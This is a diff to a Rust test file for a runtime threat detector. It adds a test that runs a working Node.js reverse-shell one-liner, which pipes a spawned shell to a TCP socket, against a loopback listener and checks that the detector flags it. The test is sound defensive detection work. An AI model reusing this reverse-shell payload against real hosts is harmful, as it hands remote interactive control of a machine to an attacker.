@@ -2205,6 +2205,29 @@ fn node_one_liner_handing_a_bare_shell_over() {
     assert_eq!(f[0].finding_type, "Execution:Runtime/SuspiciousCommand");
     assert_eq!(f[0].severity_label, SeverityLabel::High);
 
+    // The revshells.com form: a socket piped to and from a shell spawned with no arguments,
+    // against a listener on loopback that sends `exit`.
+    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
+    let port = listener.local_addr().expect("addr").port();
+    let peer = std::thread::spawn(move || {
+        if let Ok((mut conn, _)) = listener.accept() {
+            use std::io::Write as _;
+            let _ = conn.write_all(b"exit\n");
+            let _ = conn.flush();
+            std::thread::sleep(Duration::from_millis(500));
+        }
+    });
+    let line = format!(
+        r#"node -e 'var net=require("net"),cp=require("child_process"),sh=cp.spawn("sh", []);var c=new net.Socket();c.connect({port},"127.0.0.1",function(){{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c);}});sh.on("exit",function(){{process.exit(0)}})'"#
+    );
+    let found = detect(
+        run(Command::new("sh").args(["-c", &line])),
+        ThreatIntel::empty(),
+    );
+    let _ = peer.join();
+    let rules: Vec<&str> = found.iter().map(rule_id).collect();
+    assert!(rules.contains(&"exec-interpreter-pty-spawn"), "{rules:?}");
+
     let line = r#"node -e 'require("child_process").spawn("/bin/sh", ["-c", "true"], {stdio: "inherit"})'"#;
     let found = detect(
         run(Command::new("sh").args(["-c", line])),
